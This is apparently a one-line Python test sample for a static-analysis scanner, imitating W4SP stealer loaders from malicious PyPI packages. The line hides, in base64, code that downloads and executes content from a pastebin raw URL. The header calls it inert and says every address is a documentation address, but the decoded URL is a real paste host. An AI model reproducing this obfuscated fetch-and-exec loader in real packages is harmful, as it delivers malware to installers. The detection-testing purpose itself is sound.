# INERT test sample for pyward's static analysis: never run it. Modelled on W4SP stealer loaders (__import__('builtins').exec of base64 code fetched from a paste site).
# Documented: https://blog.phylum.io/phylum-discovers-dozens-more-pypi-packages-attempting-to-deliver-w4sp-stealer-in-ongoing-supply-chain-attack/ (2022)
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0CmV4ZWModXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cHM6Ly9wYXN0ZWJpbi5jb20vcmF3L2luZXJ0JykucmVhZCgpKQo="),'<string>','exec'))
